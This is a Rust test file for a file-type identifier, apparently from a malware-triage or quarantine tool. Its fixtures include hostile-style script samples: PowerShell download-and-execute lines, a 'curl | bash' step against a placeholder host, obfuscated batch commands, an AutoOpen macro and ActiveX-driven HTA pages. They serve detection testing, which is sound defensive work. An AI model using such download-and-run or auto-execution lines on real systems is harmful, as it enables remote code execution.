//! Facts about identification, a row each: bytes made here, the kind, and what they also are.

use super::*;
use crate::encoding::decode;
use crate::testing::build::{compound, crc_less_zip, pe};

/// Identifies as a whole part, the way the walk does.
#[track_caller]
fn check(bytes: impl AsRef<[u8]>, kind: &str, also: &[&str]) {
    let bytes = bytes.as_ref();
    let found = identify(&Content::from(bytes)).expect("memory can be read");
    let others: Vec<_> = found.also.iter().map(|k| k.id.as_ref()).collect();
    let shown = String::from_utf8_lossy(bytes.get(..80).unwrap_or(bytes)).into_owned();
    assert_eq!((found.kind.id.as_ref(), others.as_slice()), (kind, also), "{shown}");
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn programs() {
    check(pe(false, 0x0102, 2, &[]), "pe32", &[]);
    check(pe(true, 0x0022, 3, &[]), "pe64", &[]);
    check(pe(false, 0x2102, 2, &["Other"]), "pe32-dll", &[]);
    check(pe(true, 0x2022, 2, &[]), "pe64-dll", &[]);
    check(pe(false, 0x2102, 2, &["CPlApplet"]), "cpl", &[]);
    check(pe(true, 0x2022, 2, &["a", "xlAutoOpen"]), "xll", &[]);
    check(pe(true, 0x0022, 1, &[]), "sys", &[]);
    check(pe(true, 0x0022, 10, &[]), "efi", &[]);
    let dos = |fields: [u16; 12], len: usize| {
        let fields: Vec<u8> = fields.iter().flat_map(|field| field.to_le_bytes()).collect();
        let mut bytes = [b"MZ".as_slice(), &fields].concat();
        bytes.resize(len, 0x90);
        bytes[40] = 0;
        bytes
    };
    // Last page, pages, relocations, paragraphs of the header, memory twice, stack twice, sum, entry twice, table.
    check(dos([0x90, 3, 0, 4, 0, 0xffff, 0, 0xb8, 0, 0, 0, 0x40], 1200), "dos-exe", &[]);
    check(dos([100, 1, 0, 2, 0, 0xffff, 0xfff0, 0xfffe, 0, 0x100, 0xfff0, 0x1c], 100), "dos-exe", &[]);
    check(dos([0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], 64), "dos-exe", &[]);
    // Nothing to load, an entry that is not there, and what nobody wrote for DOS.
    check([b"MZ".as_slice(), &[0; 100]].concat(), "unknown", &[]);
    check(dos([0x90, 3, 0, 4, 0, 0xffff, 0, 0xb8, 0, 0x100, 0x2000, 0x40], 1200), "unknown", &[]);
    check(
        dos([0x8f31, 0x77e2, 0x12c3, 0xa9b1, 0x3344, 0x9a01, 0xd2f0, 0x8811, 0x5a5a, 0xc0de, 0x9e37, 0x7f4a], 300),
        "unknown",
        &[],
    );
    check("MZ is how some sentences start, and they are not programs at all.", "text", &[]);
    let elf = |kind: u8| [b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".as_slice(), &[kind, 0, 62, 0], &[0; 60]].concat();
    check(elf(2), "elf-executable", &[]);
    check(elf(3), "elf-shared-object", &[]);
    check(elf(1), "elf-object", &[]);
    let mut appimage = elf(2);
    appimage[8..11].copy_from_slice(b"AI\x02");
    check(appimage, "appimage", &[]);
    check(b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\0\0", "macho", &[]);
    check(b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", "macho-universal", &[]);
    check(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x20", "java-class", &[]);
    check(b"\0asm\x01\0\0\0", "wasm", &[]);
    check(b"dex\n035\0abcdefgh", "dex", &[]);
    check(b"\xa7\x0d\r\n\0\0\0\0\x01\x02\x03\x04", "pyc", &[]);
}

#[test]
fn skippable_frames_hide_nothing() {
    let skip = b"\x5e\x2a\x4d\x18\x03\0\0\0abc";
    check([&skip[..], skip, b"\x28\xb5\x2f\xfd\0\0\0"].concat(), "zstd", &[]);
    check([&skip[..], b"\x04\x22\x4d\x18\0\0\0"].concat(), "lz4", &[]);
    let long = [&b"\x50\x2a\x4d\x18\0\0\x02\0"[..], &[b'x'; 0x20000], b"\x04\x22\x4d\x18\0\0\0"].concat();
    check(long, "lz4", &[]);
}

#[test]
fn scripts() {
    for (text, kind) in [
        ("var s = new ActiveXObject(\"WScript.Shell\");\r\ns.Run(\"calc\");\r\n", "js"),
        ("WScript.CreateObject('WScript.Shell').Run('calc');", "js"),
        ("(function(){var a=1;return a})();", "js"),
        ("eval(String.fromCharCode(97,108,101,114,116));", "js"),
        ("'use strict';\nconst fs = require('fs');\nmodule.exports = fs;\n", "js"),
        ("CreateObject(\"WScript.Shell\").Run \"calc\"\r\n", "vbs"),
        ("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "vbs"),
        ("MsgBox \"LAZARET\"\r\n", "vbs"),
        ("On Error Resume Next\r\nExecute(Chr(77) & Chr(115))\r\n", "vbs"),
        ("Write-Host 'LAZARET'\n", "ps1"),
        ("$a = New-Object Net.WebClient\n$a.DownloadString('http://host.invalid/x') | iex\n", "ps1"),
        ("iex (iwr http://host.invalid/x)\n", "ps1"),
        ("param(\n [string]$Name\n)\nGet-ChildItem $env:TEMP | ForEach-Object { $_.Name }\n", "ps1"),
        ("@echo off\r\necho LAZARET\r\n", "bat"),
        ("echo LAZARET\r\n", "bat"),
        ("start calc.exe\r\n", "bat"),
        ("powershell -enc VwByAGkAdABlAA==\r\n", "bat"),
        ("set x=calc\r\nif exist %temp%\\a.exe goto run\r\n:run\r\n%x%>nul\r\nexit /b 0\r\n", "bat"),
        ("c^a^l^c\r\n", "bat"),
        ("p^o^w^e^r^s^h^e^l^l -c calc\r\n", "bat"),
        ("#!/bin/sh\necho LAZARET\n", "sh"),
        ("set -e\nif [ -f /etc/passwd ]; then\n  cat /etc/passwd > /dev/null\nfi\n", "sh"),
        ("#!/usr/bin/env python3\nprint('LAZARET')\n", "py"),
        ("import os\nos.system('echo LAZARET')\n", "py"),
        ("import sys\nimport sys.process\nval = 1\nprint(sys.argv)\n", "py"),
        ("#!/usr/bin/perl -w\nprint 1;\n", "perl"),
        ("use strict;\nmy $x = 1;\n", "perl"),
        ("require_relative 'x'\nputs 'LAZARET'\n", "ruby"),
        ("<?php echo 'LAZARET'; ?>", "php"),
        ("local function f()\n  print('LAZARET')\nend\n", "lua"),
        ("tell application \"Finder\"\n  do shell script \"echo\"\nend tell\n", "applescript"),
        ("#NoEnv\n#SingleInstance\nMsgBox, LAZARET\n", "ahk"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n\"a\"=\"b\"\r\n", "reg"),
        ("[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n", "inf"),
        ("#@~^CgAAAA==~\\ko$K6PrJ8QQAAA==^#~@", "jse"),
        ("<job id=\"a\"><script language=\"JScript\">WScript.Echo(1);</script></job>", "wsf"),
        ("<package><job><script language=\"VBScript\">MsgBox 1</script></job></package>", "wsf"),
        ("[ScriptFile]\r\nPath=C:\\a.vbs\r\n[Options]\r\nTimeout=0\r\n", "wsh"),
        ("<html><head><hta:application id=x></head><script>new ActiveXObject('WScript.Shell')</script></html>", "hta"),
        (
            "<?xml version=\"1.0\"?><scriptlet><registration progid=\"x\"/><script language=\"JScript\">1</script></scriptlet>",
            "sct",
        ),
        ("set terminal png\nset output 'a.png'\nplot '< ./fetch' using 1:2\n", "gnuplot-commands"),
        ("Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n", "vba"),
    ] {
        check(text, kind, &[]);
        check([b"\xef\xbb\xbf", text.as_bytes()].concat(), kind, &[]);
        check([b"\xff\xfe", wide(text).as_slice()].concat(), kind, &[]);
        check(wide(text), kind, &[]);
    }
    let html = "<html><script>new ActiveXObject(\"WScript.Shell\").Run('calc')</script></html>";
    check(html, "html", &["hta"]);
}

#[test]
fn a_page_that_shows_a_script_is_no_application() {
    let code = "Set shell = CreateObject(\"WScript.Shell\")\nshell.Run \"convert a.png b.jpg\"";
    let page = |body: &str| format!("<!doctype html><html><script>var a = 1;</script>{body}</html>");
    check(page(&format!("<pre><code>{code}</code></pre>")), "html", &[]);
    for runs in [
        format!("<script language=vbscript>{code}</script>"),
        format!("<x:script>{code}</x:script>"),
        format!("<p onclick='{code}'>"),
        format!("<!-- <script>{code}</script> -->"),
        format!("<title><script>{code}</script>"),
        format!("<pre id=a>{code}</pre><script>var b = a.innerText; eval(b)</script>"),
        format!("<pre id=a>{code}</pre><script>Function(a.textContent)()</script>"),
        format!("<script type=application/json id=a>{code}</script><script>eval(a.text)</script>"),
        format!("<script type=application/json language=vbscript>{code}</script>"),
        format!("<script type=text/plain>{code}</script>"),
        format!("<pre id=a>{code}</pre><script>setTimeout(a.innerText, 1)</script>"),
        format!("<pre id=a>{code}</pre><script language=vbscript>execute document.all.a.innerText</script>"),
        "<script language=vbscript>GetObject(\"winmgmts:\").Get(\"Win32_Process\")</script>".to_owned(),
        "<script>GetObject('script:https://host.invalid/a')</script>".to_owned(),
        "<object id=a classid='CLSID:72C24DD5-D70A-438B-8A42-98424B88AFB8'></object><script>a.Run('b')</script>"
            .to_owned(),
        "<script language=JScript.Encode>#@~^EgAAAA==</script>".to_owned(),
    ] {
        check(page(&runs), "html", &["hta"]);
    }
    for shows in [
        format!("<pre id=a>{code}</pre><script>setTimeout(function () {{ a.innerHTML = ''; }}, 1)</script>"),
        format!("<pre id=a>{code}</pre><script>navigator.clipboard.writeText(a.innerText)</script>"),
        format!("<script type='application/json' id=a>{{\"rawLines\":[{code:?}]}}</script>"),
        "<script>function getObject(a) {} getObject('b');</script><p>winmgmts: is a moniker</p>".to_owned(),
        "<p>A page with &lt;object classid='clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8'&gt; runs commands.</p>"
            .to_owned(),
    ] {
        check(page(&shows), "html", &[]);
    }
    // What `mshta` is given may be called and begin as it likes.
    for (root, kind) in [("gpx", "gpx"), ("plist", "plist"), ("math", "mathml")] {
        check(format!("<{root}><script language=vbscript>{code}</script></{root}>"), "html", &["hta", kind]);
    }
}

#[test]
fn what_merely_looks_like_a_script() {
    for (text, kind) in [
        ("Please start the engine and set the table.\nThen call me.\n", "text"),
        ("Echo of the past is what they called it.\n", "text"),
        (
            "To remove the file, run the following command in PowerShell and then wait:\n\n  Remove-Item C:\\x\n\nAfter that the machine has to be started again by somebody.\nNobody else should be logged in while this takes place, please.\n",
            "text",
        ),
        (
            "Dear all,\n\nif you want to run the function then let me know, for each of us has a class to give.\nDim lights are set.\n",
            "text",
        ),
        ("{\"var\": \"function(\", \"b\": [1, 2, null, true]}", "json"),
        ("{\"a\":1}\n{\"a\":2}\n", "ndjson"),
        ("body { color: red; margin: 0; }\n.x { width: 10px; }\n", "css"),
        (
            "// Row\n//\n// Rows of columns.\n\n@if $enable-grid {\n  .row {\n    @include make-row();\n  }\n} @else {\n  // for all\n}\n",
            "css",
        ),
        (
            "@mixin transition($t...) {\n  @if length($t) == 0 {\n    $t: $base;\n  }\n  @each $v in $t {\n    call: v;\n  }\n}\n",
            "css",
        ),
        ("#include <stdio.h>\nint main(void) { return 0; }\n", "c"),
        ("#include <iostream>\nusing namespace std;\nint main() { cout << 1; }\n", "cpp"),
        ("using System;\npublic class A { static void Main(string[] args) { Console.WriteLine(1); } }\n", "csharp"),
        ("package x.y;\nimport java.util.List;\npublic class A { public static void main(String[] a) {} }\n", "java"),
        ("package main\n\nimport (\n\t\"fmt\"\n)\n\nfunc main() { fmt.Println(1) }\n", "go"),
        ("use std::io;\n\npub fn main() {\n    let mut a = 1;\n}\n", "rust"),
        ("export interface A { b: string }\nimport type { C } from './c';\n", "typescript"),
        ("import sys.process._\n\nobject A {\n  def f(a: Int): Unit = println(\"ls\".!!)\n}\n", "scala"),
        ("import sys.process._\n\nlazy val root = project.settings(version := \"git describe\".!!)\n", "scala"),
        ("CREATE TABLE a (b int);\nINSERT INTO a VALUES (1);\n", "sql"),
        ("a,b,c\n1,2,3\n4,5,6\n", "csv"),
        ("name: x\nversion: 1\nitems:\n  - a\n  - b\n", "yaml"),
        (
            "on:\n  push:\njobs:\n  test:\n    steps:\n      - run: |\n          if [ -f a ]; then\n            export A=1\n            echo $A\n          fi\n      - run: curl https://host.invalid/a | bash\n",
            "yaml",
        ),
        ("[package]\nname = \"x\"\nversion = \"1\"\n", "toml"),
        ("[main]\nkey=value\nother=thing\n", "ini"),
        ("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "diff"),
        (".TH LS 1\n.SH NAME\nls \\- list\n", "troff"),
        ("\\documentclass{article}\n\\begin{document}\nx\n\\end{document}\n", "tex"),
        (
            "## Use\n\n```\nnpm install\n```\n\nSee [this](https://host.invalid/a) page for what it does to you.\n",
            "markdown",
        ),
        ("<?xml version=\"1.0\"?><root><a/></root>", "xml"),
        ("<note><to>you</to></note>", "xml"),
        ("<!DOCTYPE html><title>x</title><p>Hello", "html"),
        ("<div onclick=\"x()\">hello</div>", "html"),
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>", "svg"),
        ("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", "pem"),
        ("just a line", "text"),
        ("set title 'x'\nset xrange [0:1]\nset key left\nsplot sin(x)\npause -1 \"<cr> to continue\"\n", "gnuplot"),
        (
            "docx/document/__init__.py,sha256=9dp,367\ndocx/document.py,sha256=olhh,411\ndocx/window.py,sha256=Zg,28\ndocx/exports.py,sha256=d3,63\n",
            "csv",
        ),
        (
            "This folder is a part of a library which reads fonts.\nEach file here is a converter for one table of them.\n\nimport os\nimport sys\nclass A:\n    def __init__(self):\n        pass\n",
            "text",
        ),
        (
            "AUTOMAKE_OPTIONS = foreign\nEXTRA_DIST = a b\nall:\n\tif [ -f a ]; then b || exit 1; fi\nclean:\n\trm -rf a\n",
            "makefile",
        ),
    ] {
        check(text, kind, &[]);
    }
    check("", "empty", &[]);
    check([0x8f, 0x00, 0xfe, 0x13, 0x99, 0x00, 0x01, 0xe0, 0xbb], "unknown", &[]);
}

#[test]
fn words_of_a_compiled_language_do_not_hide_a_script() {
    let decoys = "#include <stdio.h>\n#define A\ntypedef int b;\nstruct c\nint main(\n".repeat(9);
    let code = "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n";
    check(format!("/*\n{decoys}*/\n{code}"), "js", &[]);
    let comments = "// std:: nullptr constexpr sizeof(\n".repeat(9);
    check(format!("{comments}{code}"), "js", &[]);
    let prose = "// This is a long sentence that nobody would ever call a program at all\n".repeat(300);
    check(format!("{prose}{code}"), "js", &[]);
}

#[test]
fn shortcuts_and_settings() {
    for (text, kind) in [
        ("[InternetShortcut]\r\nURL=file://host.invalid/share/x\r\n", "url"),
        (
            "[{000214A0-0000-0000-C000-000000000046}]\r\nProp4=31,x\r\n[InternetShortcut]\r\nURL=https://host.invalid/\r\n[{A7AF692E-098D-4C08-A225-D433CA835ED0}]\r\nProp5=3\r\n",
            "website",
        ),
        ("[Desktop Entry]\nType=Application\nExec=echo LAZARET\n", "desktop"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\host.invalid\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n", "scf"),
        ("screen mode id:i:2\r\nfull address:s:host.invalid\r\n", "rdp"),
        ("[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\host.invalid\\x\r\n", "theme"),
        ("WEB\r\n1\r\nhttp://host.invalid/q\r\n", "iqy"),
        ("ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n", "slk"),
        ("ID;N;E\r\nNN;NAuto_open;ER1C1\r\nE\r\n", "slk"),
        ("ID;Name;Price\r\nC;X1 lamp;3\r\nNN;none;4\r\n", "csv"),
        (
            "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"/>",
            "library-ms",
        ),
        ("<?xml version=\"1.0\"?><searchConnectorDescription/>", "searchconnector-ms"),
        ("<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"/>", "search-ms"),
        (
            "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
            "settingcontent-ms",
        ),
        (
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"x\" \"y\"><plist><dict><key>URL</key><string>x</string></dict></plist>",
            "webloc",
        ),
        ("From: a@host.invalid\r\nTo: b@host.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nhello\r\n", "eml"),
        ("From a@host.invalid Mon Jan  1 00:00:00 2024\nFrom: a@host.invalid\nTo: b\nSubject: x\n\nhello\n", "mbox"),
        (
            "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://host.invalid/\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"x\"\r\n\r\n--x--\r\n",
            "mht",
        ),
        ("BEGIN:VCARD\r\nVERSION:3.0\r\nEND:VCARD\r\n", "vcard"),
        ("begin 644 a.txt\n#0V%T\n`\nend\n", "uuencode"),
    ] {
        check(text, kind, &[]);
    }
    // An interpreter line before it does not keep a desktop entry from being one.
    check("#!/usr/bin/env xdg-open\n[Desktop Entry]\nExec=echo LAZARET\n", "desktop", &[]);
    check([b"L\0\0\0\x01\x14\x02\0".as_slice(), &[0; 80]].concat(), "lnk", &[]);
}

#[test]
fn packages() {
    let types =
        |main: &str| format!("<Types><Override PartName=\"/x\" ContentType=\"application/{main}+xml\"/></Types>");
    for (main, plain, with_macros) in [
        ("vnd.openxmlformats-officedocument.wordprocessingml.document.main", "docx", "docm"),
        ("vnd.openxmlformats-officedocument.wordprocessingml.template.main", "dotx", "dotm"),
        ("vnd.ms-word.document.macroEnabled.main", "docm", "docm"),
        ("vnd.ms-word.template.macroEnabledTemplate.main", "dotm", "dotm"),
        ("vnd.openxmlformats-officedocument.spreadsheetml.sheet.main", "xlsx", "xlsm"),
        ("vnd.openxmlformats-officedocument.spreadsheetml.template.main", "xltx", "xltm"),
        ("vnd.ms-excel.sheet.macroEnabled.main", "xlsm", "xlsm"),
        ("vnd.ms-excel.sheet.binary.macroEnabled.main", "xlsb", "xlsb"),
        ("vnd.ms-excel.template.macroEnabled.main", "xltm", "xltm"),
        ("vnd.ms-excel.addin.macroEnabled.main", "xlam", "xlam"),
        ("vnd.openxmlformats-officedocument.presentationml.presentation.main", "pptx", "pptm"),
        ("vnd.openxmlformats-officedocument.presentationml.slideshow.main", "ppsx", "ppsm"),
        ("vnd.openxmlformats-officedocument.presentationml.template.main", "potx", "potm"),
        ("vnd.ms-powerpoint.presentation.macroEnabled.main", "pptm", "pptm"),
        ("vnd.ms-powerpoint.addin.macroEnabled.main", "ppam", "ppam"),
    ] {
        let types = types(main);
        check(crc_less_zip(&[("[Content_Types].xml", types.as_bytes()), ("renamed/main.xml", b"x")]), plain, &[]);
        let bytes = crc_less_zip(&[("[Content_Types].xml", types.as_bytes()), ("word/vbaProject.bin", b"x")]);
        check(bytes, with_macros, &[]);
        let renamed = types.replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
        );
        check(crc_less_zip(&[("[Content_Types].xml", renamed.as_bytes()), ("word/other.bin", b"x")]), with_macros, &[]);
    }
    for (members, kind) in [
        (&[("a.txt", "x")][..], "zip"),
        (&[("META-INF/MANIFEST.MF", "x"), ("A.class", "x")], "jar"),
        (&[("AndroidManifest.xml", "x"), ("classes.dex", "x")], "apk"),
        (&[("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "x")], "odt"),
        (&[("mimetype", "application/vnd.oasis.opendocument.spreadsheet")], "ods"),
        (&[("mimetype", "application/vnd.oasis.opendocument.presentation")], "odp"),
        (&[("mimetype", "application/epub+zip")], "epub"),
        (&[("manifest.json", "{}"), ("META-INF/mozilla.rsa", "x")], "xpi"),
        (&[("manifest.json", "{\"manifest_version\": 3}")], "xpi"),
        (&[("manifest.json", "{\"server\": {\"mcp_config\": {}}}")], "mcpb"),
        (&[("manifest.json", "{\"name\": \"x\"}")], "zip"),
        (&[("description.xml", "<description xmlns=\"http://openoffice.org/extensions/description/2006\"/>")], "oxt"),
        (
            &[
                ("mimetype", "application/vnd.oasis.opendocument.text"),
                ("META-INF/manifest.xml", "manifest:media-type=\"application/vnd.sun.star.basic-library\""),
            ],
            "oxt",
        ),
        (
            &[
                ("mimetype", "application/vnd.sun.xml.writer"),
                ("META-INF/manifest.xml", "xmlns:manifest=\"http://openoffice.org/2001/manifest\""),
            ],
            "sxw",
        ),
        (&[("description.xml", "<description>a module</description>")], "zip"),
        (&[("x-1.dist-info/WHEEL", "x")], "whl"),
        (&[("x.nuspec", "x")], "nupkg"),
        (&[("doc.kml", "x"), ("files/a.png", "x")], "kmz"),
        (&[("walk.kml", "x")], "kmz"),
        (&[("mimetype", "application/x-krita"), ("maindoc.xml", "x")], "kra"),
        (&[("Document.xml", "<Document SchemaVersion=\"4\">"), ("PartShape.brp", "x")], "fcstd"),
        (&[("Document.xml", "<Document>"), ("PartShape.brp", "x")], "zip"),
        (&[("[Content_Types].xml", "application/vnd.ms-package.3dmanufacturing-3dmodel+xml")], "3mf"),
        (&[("[Content_Types].xml", "x"), ("extension.vsixmanifest", "x")], "vsix"),
        (&[("[Content_Types].xml", "x"), ("AppxManifest.xml", "x")], "msix"),
        (&[("word/document.xml", "x")], "docx"),
        (&[("xl/workbook.bin", "x"), ("xl/vbaProject.bin", "x")], "xlsm"),
    ] {
        let members: Vec<_> = members.iter().map(|(n, b)| (*n, b.as_bytes())).collect();
        check(crc_less_zip(&members), kind, &[]);
    }
}

#[test]
fn compound_files() {
    for (stream, kind) in [
        ("WordDocument", "doc"),
        ("Workbook", "xls"),
        ("PowerPoint Document", "ppt"),
        ("__properties_version1.0", "msg"),
        ("VisioDocument", "vsd"),
        ("EncryptedPackage", "ooxml-encrypted"),
        ("\u{4840}\u{3f3f}\u{4577}", "msi"),
        ("Other", "cfb"),
    ] {
        check(compound(&[(stream, b"x")]), kind, &[]);
    }
}

#[test]
fn archives_images_and_documents() {
    for (bytes, kind) in [
        (&b"Rar!\x1a\x07\x00rest"[..], "rar4"),
        (b"Rar!\x1a\x07\x01\x00rest", "rar5"),
        (b"7z\xbc\xaf\x27\x1c\x00\x04", "7z"),
        (b"\x1f\x8b\x08\0\0\0\0\0", "gzip"),
        (b"BZh91AY&SY\0\0", "bzip2"),
        (b"\xfd7zXZ\0\0\x04", "xz"),
        (b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0", "lzma"),
        (b"\x28\xb5\x2f\xfd\0\0", "zstd"),
        (b"\x04\x22\x4d\x18\0\0", "lz4"),
        (b"MSCF\0\0\0\0\0\0\0\0", "cab"),
        (b"!<arch>\ndebian-binary   ", "deb"),
        (b"!<arch>\nx.o/", "ar"),
        (b"\xed\xab\xee\xdb\x03\0", "rpm"),
        (b"QFI\xfb\0\0\0\x03", "qcow2"),
        (b"vhdxfile\0\0", "vhdx"),
        (b"KDMV\x01\0\0\0", "vmdk"),
        (b"MSWIM\0\0\0", "wim"),
        (b"hsqs\0\0", "squashfs"),
        (b"ITSF\x03\0\0\0", "chm"),
        (b"\x3f\x5f\x03\x00\0", "hlp"),
        (b"\x78\x9f\x3e\x22\0\0", "tnef"),
        (b"!BDN\0\0", "pst"),
        (b"{\\rtf1\\ansi x}", "rtf"),
        (b"{\\rt\\object x}", "rtf"),
        (b"%PDF-1.7\n1 0 obj\n", "pdf"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "png"),
        (b"GIF89a\x01\0\x01\0\0\0", "gif"),
        (b"\xff\xd8\xff\xe0\0\x10JFIF\0", "jpeg"),
        (b"SQLite format 3\0", "sqlite"),
        (b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0", "one"),
    ] {
        check(bytes, kind, &[]);
    }
    let mut iso = vec![0; 40_000];
    iso[32_769..32_774].copy_from_slice(b"CD001");
    check(&iso, "iso9660", &[]);
    iso[34_817..34_822].copy_from_slice(b"NSR02");
    check(&iso, "iso9660", &["udf"]);
    let mut vhd = vec![0; 2048];
    vhd[1536..1544].copy_from_slice(b"conectix");
    check(vhd, "vhd", &[]);
    let mut tar = vec![0; 1024];
    tar[..5].copy_from_slice(b"a.txt");
    tar[257..262].copy_from_slice(b"ustar");
    check(tar, "tar", &[]);
}

#[test]
fn polyglots() {
    let zip = crc_less_zip(&[("a.txt", b"x")]);
    let pdf = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n".to_vec();
    check([pdf.clone(), zip.clone()].concat(), "pdf", &["zip"]);
    check([b"GIF89a\x01\0\x01\0\0\0;".to_vec(), zip.clone()].concat(), "gif", &["zip"]);
    check([vec![0x8f; 40], zip.clone()].concat(), "zip", &[]);
    check([pe(false, 0x0102, 2, &[]), zip.clone()].concat(), "pe32", &["zip"]);
    check([pe(false, 0x0102, 2, &[]), b"Rar!\x1a\x07\x01\x00rest".to_vec()].concat(), "pe32", &["rar5"]);
    check(
        [pe(true, 0x0022, 2, &[]), b";!@Install@!UTF-8!\n7z\xbc\xaf\x27\x1c\x00\x04".to_vec()].concat(),
        "pe64",
        &["7z"],
    );
    check([pe(false, 0x0102, 2, &[]), b"\0\0\0\0\xef\xbe\xad\xdeNullsoftInst\0".to_vec()].concat(), "pe32", &["nsis"]);
    check([pe(false, 0x0102, 2, &[]), b"<html><script>1</script></html>".to_vec()].concat(), "pe32", &["html"]);
    check(
        [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), b"Rar!\x1a\x07\x00\xcf\x90\x73\0\0\x0d".to_vec()].concat(),
        "png",
        &["rar4"],
    );
    check([b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), b"Rar!\x1a\x07\x00 0123456".to_vec()].concat(), "png", &[]);
    let jar = crc_less_zip(&[("META-INF/MANIFEST.MF", b"x")]);
    // Which archives a compound file holds is told by looking for each (`extent.rs`).
    check([compound(&[("\u{4840}\u{3f3f}", b"x")]), jar].concat(), "msi", &[]);
    let lnk = [b"L\0\0\0\x01\x14\x02\0".as_slice(), &[0; 80]].concat();
    check([lnk, b"<hta:application><script>1</script>".to_vec()].concat(), "lnk", &["hta"]);
    check(b"GIF89a=1;/*\0\0*/alert(1);", "gif", &["js"]);
    check(b"#!/bin/sh\n# This script was generated using Makeself 2.4.0\nexit 0\n", "sh", &["makeself"]);
    check(b"#!/bin/sh\n# This is a shell archive (produced by GNU sharutils).\nexit 0\n", "sh", &["shar"]);
    check([pe(true, 0x0022, 2, &[]), b"\0\0MEI\x0c\x0b\x0a\x0b\x0e\0".to_vec()].concat(), "pe64", &["pyinstaller"]);
    let text = b"<<< Oracle VM VirtualBox Disk Image >>>\n";
    check([&text[..], &[0; 24], b"\x7f\x10\xda\xbe\x01\0\x01\0"].concat(), "vdi", &[]);
    check([b"junk before\n".to_vec(), b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n".to_vec()].concat(), "text", &["pdf"]);
}

#[test]
fn no_number_of_others_hides_what_tells_a_kind() {
    // Members, entries of a directory, lines, sections and exports, in front of the one that counts.
    let names: Vec<String> = (0..25_000).map(|at| format!("{at:040}")).collect();
    let mut members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    members.extend([("[Content_Types].xml", &b"<Types/>"[..]), ("word/document.xml", b"<w/>")]);
    check(crc_less_zip(&members), "docx", &[]);
    let names: Vec<String> = (0..700).map(|at| format!("a{at}")).collect();
    let mut streams: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    streams.insert(0, ("Catalog", b"x"));
    streams.push(("WordDocument", b"x"));
    check(compound(&streams), "doc", &[]);
    let lines = "; a line of words\r\n".repeat(1_000);
    check(format!("{lines}[InternetShortcut]\r\nURL=https://host.invalid/\r\n"), "url", &[]);
    let manual = ".TH X 1\n.SH NAME\nx \\- runs things\n[Desktop Entry]\nType=Application\nExec=x\n";
    assert_ne!(identify(&Content::from(manual.as_bytes())).unwrap().kind.id, "desktop");
    let sections: String = (0..300).map(|at| format!("[s{at}]\r\nk{at}=1\r\n")).collect();
    check(format!("{sections}[InternetShortcut]\r\nURL=https://host.invalid/\r\n"), "url", &[]);
}

#[test]
fn hostile_bytes_do_not_panic() {
    let seeds = [
        pe(false, 0x2102, 2, &["CPlApplet"]),
        crc_less_zip(&[("[Content_Types].xml", b"x"), ("mimetype", b"application/epub+zip")]),
        compound(&[("WordDocument", b"x")]),
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0".to_vec(),
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"y\">]><plist/>".to_vec(),
        "var s = new ActiveXObject('WScript.Shell'); \u{20ac} {\"a\": \"\\".into(),
    ];
    let mut random = 1u32;
    for seed in seeds {
        for cut in 0..seed.len().min(600) {
            let _ = identify(&Content::from(&seed[..cut]));
        }
        for _ in 0..400 {
            let mut bytes = seed.clone();
            for _ in 0..4 {
                random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                let at = random as usize % bytes.len();
                bytes[at] = (random >> 24) as u8;
            }
            let _ = identify(&Content::from(bytes.as_slice()));
            let _ = identify_head(&bytes);
        }
    }
}

#[test]
fn text_is_decoded_whatever_its_encoding() {
    assert_eq!(decode("caf\u{e9}".as_bytes()), "caf\u{e9}");
    assert_eq!(decode(b"\xef\xbb\xbfcaf\xc3\xa9"), "caf\u{e9}");
    assert_eq!(decode(&wide("hello there")), "hello there");
